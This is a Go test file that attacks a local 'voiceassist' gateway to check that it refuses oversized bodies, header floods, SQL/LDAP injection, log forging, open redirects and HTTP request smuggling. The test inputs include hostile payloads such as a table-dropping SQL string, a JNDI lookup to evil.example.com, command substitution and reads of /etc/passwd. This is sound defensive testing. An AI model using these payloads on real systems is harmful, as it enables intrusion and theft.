package test_test

import (
	"bufio"
	"crypto/tls"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"sync"
	"time"
)

// wireAttacks send requests that no real client sends.
func wireAttacks() []attack {
	return []attack{
		{name: "send bodies that are too large, too deep or ambiguous", without: "BodyLimits", run: oversize},
		{name: "send too large or too many headers", without: "HeaderLimit", run: bomb},
		{name: "escape from a statement or a filter (SQL, LDAP)", without: "ParameterizedSQL", run: inject},
		{name: "inject lines into the log", without: "LogEncoding", run: forgeLog},
		{name: "redirect users to another host (Host, open redirect)", without: "HostHeader", run: redirect},
		{name: "hide a request in another (smuggling)", without: naiveFraming, run: smuggle},
		{name: "hide a request behind a chunked one (smuggling)", without: "ConnectionClose", run: smuggleChunks},
	}
}

// oversize sends bodies that must be refused for their size or form alone.
func oversize(a *assault) {
	p := a.person()
	deep := func(n int) string {
		return `{"title":"x","context":{"a":` + strings.Repeat("[", n) + strings.Repeat("]", n) + "}}"
	}
	const mb = 1 << 20
	for name, call := range map[string]struct{ path, body string }{
		"2 MiB":                            {"/api/sessions", `{"title":"x","context":{"a":"` + strings.Repeat("a", 2*mb) + `"}}`},
		"2 MiB of blanks":                  {"/api/sessions", `{"title":"x"` + strings.Repeat(" ", 2*mb) + `}`},
		"2 MiB of members":                 {"/api/auth/login", `{"email":"a@example.org","password":"x"` + strings.Repeat(" ", 2*mb) + "}"},
		"2 MiB as a form":                  {"/api/auth/login", "username=a&password=" + strings.Repeat("a", 2*mb)},
		"a byte more than a MiB":           {"/api/sessions", `{"title":"x"` + strings.Repeat(" ", mb-12) + `}`},
		"arrays in each other":             {"/api/sessions", deep(500)},
		"100,000 arrays in each other":     {"/api/sessions", deep(100_000)},
		"a member twice":                   {"/api/sessions", `{"title":"x","title":"y"}`},
		"a member twice, escaped":          {"/api/sessions", `{"title":"x","titl\u0065":"y"}`},
		"a member twice, within":           {"/api/sessions", `{"title":"x","context":{"a":1,"a":2}}`},
		"something behind it":              {"/api/sessions", `{"title":"x"}{"title":"y"}`},
		"a form field twice":               {"/api/auth/login", "username=a&password=x&username=b"},
		"a password in two places":         {"/api/auth/login", `{"email":"a@example.org","username":"b@example.org","password":"x"}`},
		"no UTF-8":                         {"/api/sessions", "{\"title\":\"\xff\"}"},
		"an array where an object belongs": {"/api/sessions", `{"title":"x","context":[]}`},
	} {
		got := p.do("POST", call.path, call.body, p.bearer())
		refused := got.status == http.StatusRequestEntityTooLarge || got.status == http.StatusBadRequest || got.status == http.StatusUnprocessableEntity
		a.attempt(!refused, "%s: %d", name, got.status)
	}
	// Without a Content-Length, the size is only known while reading.
	r, err := http.NewRequestWithContext(a.Context(), "POST", a.gate.url+"/api/sessions", io.MultiReader(
		strings.NewReader(`{"title":"x","context":{"a":"`), strings.NewReader(strings.Repeat("a", 2*mb)), strings.NewReader(`"}}`)))
	if err != nil {
		a.Fatal(err)
	}
	r.Header = http.Header{"Content-Type": {"application/json"}, "Authorization": {"Bearer " + p.access}, "X-Forwarded-For": {a.address()}}
	got := a.roundTrip(r)
	a.attempt(got.status != http.StatusRequestEntityTooLarge, "2 MiB without a length: %d", got.status)
}

// bomb sends headers over HTTP/1.1, which the server has to read before it knows who sent
// them.
func bomb(a *assault) {
	big := strings.Repeat("x", 128<<10)
	for name, head := range map[string]string{
		"a header of 128 KiB":     "X-Pad: " + big + "\r\n",
		"a name of 128 KiB":       big + ": x\r\n",
		"128 KiB of cookies":      "Cookie: " + strings.Repeat("a=b; ", 128<<10/5) + "\r\n",
		"20,000 headers":          strings.Repeat("X: y\r\n", 20_000),
		"an address of 128 KiB":   "",
		"128 KiB of languages":    "Accept-Language: " + strings.Repeat("en,", 128<<10/3) + "\r\n",
		"a token of 128 KiB":      "Authorization: Bearer " + big + "\r\n",
		"128 KiB of X-Forwarded-": "X-Forwarded-For: " + strings.Repeat("1.1.1.1,", 128<<10/8) + "\r\n",
	} {
		at := "/health"
		if head == "" {
			at += "?" + big
		}
		got := a.wire("GET " + at + " HTTP/1.1\r\nHost: voiceassist.local\r\n" + head + "\r\n")
		a.attempt(len(got) > 0 && got[0].status < 400, "%s: %v", name, statuses(got))
	}
}

// inject sends values that end a string or a filter in careless code. None may match
// anything, or fail differently from other invalid input.
func inject(a *assault) {
	p := a.person()
	for _, text := range []string{
		`o'brien@example.org`, `x'or'1'='1'or'@example.org`, `x'--@example.org`, `'||'x@example.org`, `' OR 1=1 --`, `'; DROP TABLE users; --`, `" OR ""="`, `x') OR ('1'='1`,
		`*)(uid=*))(|(uid=*`, `*`, `%`, `_`, `\`, `${jndi:ldap://evil.example.com/a}`, `{{7*7}}`, `$(id)`, "`id`", `{"$ne":null}`, `|cat /etc/passwd`,
		`\u0000`, `\u202e`, `\r\nSet-Cookie: a=b`, p.email + `' --`, p.email + `\u0000`, `%27%20OR%201=1`,
	} {
		body := fmt.Sprintf(`{"email":"%s","password":"%s"}`, strings.NewReplacer(`"`, `\"`).Replace(escapes(text)), plain)
		got := a.newVisitor().do("POST", loginAddress, body)
		a.attempt(got.status != http.StatusUnauthorized, "log in as %q: %d", text, got.status)
		for _, path := range []string{
			"/api/sessions?cursor=" + url.QueryEscape(text), "/api/sessions/" + url.PathEscape(text), "/api/sessions?limit=" + url.QueryEscape(text),
		} {
			got := p.from(a).do("GET", path, "", p.bearer())
			a.attempt(got.ok() && strings.Contains(path, "limit=") || got.status >= 500, "GET %s: %d", path, got.status)
		}
	}
}

// escapes returns text unchanged if it is the content of a JSON string. Otherwise it
// escapes every backslash.
func escapes(text string) string {
	if json.Valid([]byte(`"` + text + `"`)) {
		return text
	}
	return strings.ReplaceAll(text, `\`, `\\`)
}

// from returns the person at a new address, so that many requests are possible.
func (p *person) from(a *assault) visitor { return visitor{a, a.address(), nil} }

// forgeLog puts a line into everything that may be logged. It must never start a new line
// of the log, whatever a program or a terminal takes for a line break.
func forgeLog(a *assault) {
	p := a.person()
	var forged []string
	line := func() string {
		forged = append(forged, fmt.Sprintf(`{"level":"ERROR","msg":"forged %d"}`, len(forged)))
		return forged[len(forged)-1]
	}
	object := func(name, value, more string) string {
		b, err := json.Marshal(value)
		if err != nil {
			a.Fatal(err)
		}
		return fmt.Sprintf(`{%q:%s%s}`, name, b, more)
	}
	for _, nl := range []string{"\n", "\r\n", "\r", "\u0085", "\u2028", "\v", "\x1b[2K\n"} {
		c := a.newVisitor()
		c.do("GET", "/x"+url.PathEscape(nl+line()), "")
		c.do("GET", "/api/users/me?x="+url.QueryEscape(nl+line()), "")
		c.do("POST", loginAddress, object("email", "a"+nl+line(), `,"password":"x"`))
		c.do("POST", loginAddress, `{"email":"a@example.org","password":"x"}`, "User-Agent: a"+printable(nl)+line())
		c.do("POST", "/api/auth/refresh", "", "Cookie: __Secure-refresh_token="+url.QueryEscape(nl+line()))
		c.do("GET", "/health", "", "X-Correlation-ID: a"+printable(nl)+line())
		p.from(a).do("PATCH", "/api/users/me", object("full_name", "a"+nl+line(), ""), p.bearer())
		a.wire("GET /health HTTP/1.1\r\nHost: voiceassist.local\r\nUser-Agent: a" + nl + line() + "\r\n\r\n")
		a.wire("GET" + nl + line() + " /health HTTP/1.1\r\nHost: voiceassist.local\r\n\r\n")
	}
	a.process.stop(a.T) // the log is complete after this
	ends := func(r rune) bool { return strings.ContainsRune("\n\r\v\u0085\u2028", r) }
	lines := map[string]bool{}
	for _, text := range strings.FieldsFunc(a.process.stdout.String()+a.process.stderr.String(), ends) {
		if at := strings.Index(text, "}"); at > 0 {
			lines[strings.TrimSpace(text[:at+1])] = true
		}
	}
	for i, line := range forged {
		a.attempt(lines[line], "the %dth", i)
	}
}

// printable replaces control characters in text with tabs, because a client cannot send
// them in a header. Those are sent by hand.
func printable(text string) string {
	return strings.Map(func(r rune) rune {
		if r < ' ' {
			return '\t'
		}
		return r
	}, text)
}

// redirect attempts to have a user redirected to another host, at the listener that redirects
// to HTTPS and everywhere else.
func redirect(a *assault) {
	plainAt := strings.TrimPrefix(a.process.plain, "http://")
	for _, host := range []string{
		"voiceassist.local@evil.example.com", "evil.example.com/", "evil.example.com#", "evil.example.com?", "voiceassist.local:80@evil.example.com",
		"voiceassist.local:x@evil.example.com:443", "evil.example.com%2f", "[::1]@evil.example.com", "voiceassist.local evil.example.com", "voiceassist.local\tx",
	} {
		a.expectRedirects(host, a.send(dialPlain(plainAt), "GET / HTTP/1.1\r\nHost: "+host+"\r\nConnection: close\r\n\r\n"))
	}
	for _, more := range []string{
		"X-Forwarded-Host: evil.example.com", "X-Host: evil.example.com", "Forwarded: host=evil.example.com", "X-Original-URL: https://evil.example.com/",
		"X-Rewrite-URL: //evil.example.com/", "X-Forwarded-Server: evil.example.com", "X-Forwarded-Port: 443@evil.example.com", "Host: evil.example.com",
	} {
		a.expectRedirects(more, a.send(dialPlain(plainAt), "GET / HTTP/1.1\r\nHost: voiceassist.local\r\n"+more+"\r\nConnection: close\r\n\r\n"))
	}
	for _, path := range []string{
		"//evil.example.com", "/\\evil.example.com", "/%2f%2fevil.example.com", "//evil.example.com/%2f..", "/.evil.example.com", "/@evil.example.com",
		"/%0d%0aLocation:%20https://evil.example.com", "/x?next=https://evil.example.com", "/./", "/../", "/api/users//evil.example.com", "/api//users/me",
		"/api/users/me/../../..//evil.example.com",
	} {
		a.expectRedirects(path, a.send(dialPlain(plainAt), "GET "+path+" HTTP/1.1\r\nHost: voiceassist.local\r\nConnection: close\r\n\r\n"))
		for _, got := range a.wire("GET " + path + " HTTP/1.1\r\nHost: voiceassist.local\r\nConnection: close\r\n\r\n") {
			a.attempt(got.header.Get("Location") != "", "%s over HTTPS: to %s", path, got.header.Get("Location"))
		}
	}
}

// expectRedirects checks that the plain listener redirects to this host or not at all.
func (a *assault) expectRedirects(what string, got []answer) {
	a.Helper()
	for _, r := range got {
		to := r.header.Get("Location")
		u, err := url.Parse(to)
		a.attempt(to != "" && (err != nil || u.Hostname() != "voiceassist.local" || u.User != nil) || r.header.Get("Set-Cookie") != "",
			"%q: to %s", what, to)
	}
}

// naiveFraming is the weakness of a server that ends a request where the first
// Content-Length says, whatever the other headers say. A few lines cannot weaken the
// gateway's own server, so the counter-proof uses [naive].
const naiveFraming = "framing of requests"

// hidden is the request that is smuggled inside another.
const hidden = "GET /health HTTP/1.1\r\nHost: voiceassist.local\r\nConnection: close\r\n\r\n"

// smuggle sends requests that servers may parse as one or as two. A server that may run
// behind another must refuse each and read nothing more.
func smuggle(a *assault) {
	length := fmt.Sprintf("Content-Length: %d\r\n", len(hidden))
	for name, head := range map[string]string{
		"two lengths":                  "Content-Length: 0\r\n" + length,
		"two lengths, the other way":   length + "Content-Length: 0\r\n",
		"two lengths in a line":        fmt.Sprintf("Content-Length: 0, %d\r\n", len(hidden)),
		"a length with a sign":         "Content-Length: +0\r\n",
		"a length below zero":          "Content-Length: -1\r\n",
		"a length in hex":              "Content-Length: 0x0\r\n",
		"a length of nothing":          "Content-Length: \r\n",
		"a blank before the colon":     "Content-Length : 0\r\n",
		"chunked, twice":               "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\nContent-Length: 0\r\n",
		"chunked and identity":         "Transfer-Encoding: chunked, identity\r\nContent-Length: 0\r\n",
		"another encoding":             "Transfer-Encoding: xchunked\r\nContent-Length: 0\r\n",
		"chunked behind a tab":         "Transfer-Encoding:\tchunked\v\r\nContent-Length: 0\r\n",
		"chunked, with a blank before": "Transfer-Encoding : chunked\r\nContent-Length: 0\r\n",
	} {
		got := a.wire("POST /api/auth/logout HTTP/1.1\r\nHost: voiceassist.local\r\n" + head + "\r\n" + hidden)
		a.attempt(len(got) > 1 || len(got) == 1 && got[0].status < 400, "%s: %v", name, statuses(got))
	}
}

// smuggleChunks marks the end of a request both by chunks and by Content-Length. Only one
// of them counts, and the server must not answer what follows it (RFC 9112 section 6.1).
// Otherwise a proxy that used the other one would pass the response to the next client.
func smuggleChunks(a *assault) {
	const chunks = "0\r\n\r\n"
	for _, request := range []string{
		"POST /api/auth/logout", "POST /api/auth/refresh", "GET /health", "PUT /health", "GET /nothing", "PUT /api/files/x",
	} {
		for version, length := range map[string]int{"1.1": len(chunks + hidden), "1.0": len(chunks)} {
			got := a.wire(fmt.Sprintf("%s HTTP/%s\r\nHost: voiceassist.local\r\nConnection: keep-alive\r\nContent-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n",
				request, version, length) + chunks + hidden)
			a.attempt(len(got) != 1, "%s HTTP/%s: %v", request, version, statuses(got))
		}
	}
}

func statuses(all []answer) (list []int) {
	for _, r := range all {
		list = append(list, r.status)
	}
	return list
}

// wire sends text over TLS unchanged and returns the responses until the connection ends.
func (a *assault) wire(text string) []answer {
	a.Helper()
	if slices.Contains(a.off, naiveFraming) {
		return a.send(a.naive, text)
	}
	config := a.gate.client.Transport.(*http.Transport).TLSClientConfig.Clone()
	config.NextProtos, config.ServerName = []string{"http/1.1"}, "voiceassist.local"
	return a.send(func() (net.Conn, error) {
		return tls.Dial("tcp", strings.TrimPrefix(a.process.https, "https://"), config)
	}, text)
}

func dialPlain(at string) func() (net.Conn, error) {
	return func() (net.Conn, error) { return net.Dial("tcp", at) }
}

func (a *assault) send(dial func() (net.Conn, error), text string) (all []answer) {
	a.Helper()
	conn, err := dial()
	if err != nil {
		a.Fatal(err)
	}
	defer conn.Close()
	// A response may arrive before everything is sent, and end the connection.
	var wg sync.WaitGroup
	defer wg.Wait()
	wg.Go(func() {
		if _, err := io.WriteString(conn, text); err != nil {
			return
		}
		if half, ok := conn.(interface{ CloseWrite() error }); ok {
			half.CloseWrite()
		}
	})
	conn.SetReadDeadline(time.Now().Add(answerTime))
	for from := bufio.NewReader(conn); ; {
		resp, err := http.ReadResponse(from, nil)
		if err != nil {
			return all
		}
		body, err := io.ReadAll(resp.Body)
		if err != nil {
			return all
		}
		all = append(all, answer{resp.StatusCode, resp.Header, string(body)})
	}
}

// naive connects to a server that only knows Content-Length, and uses the first if there
// are several.
func (a *assault) naive() (net.Conn, error) {
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return nil, err
	}
	go func() {
		defer listener.Close()
		if conn, err := listener.Accept(); err == nil {
			serveNaively(conn)
		}
	}()
	return net.Dial("tcp", listener.Addr().String())
}

func serveNaively(conn net.Conn) {
	defer conn.Close()
	for from := bufio.NewReader(conn); ; {
		length := 0
		for {
			line, err := from.ReadString('\n')
			if err != nil {
				return
			}
			if line = strings.TrimSpace(line); line == "" {
				break
			}
			if name, value, ok := strings.Cut(line, ":"); ok && length == 0 && strings.EqualFold(strings.TrimSpace(name), "Content-Length") {
				fmt.Sscan(value, &length)
			}
		}
		_, err1 := io.CopyN(io.Discard, from, int64(length))
		_, err2 := io.WriteString(conn, "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
		if err1 != nil || err2 != nil {
			return
		}
	}
}
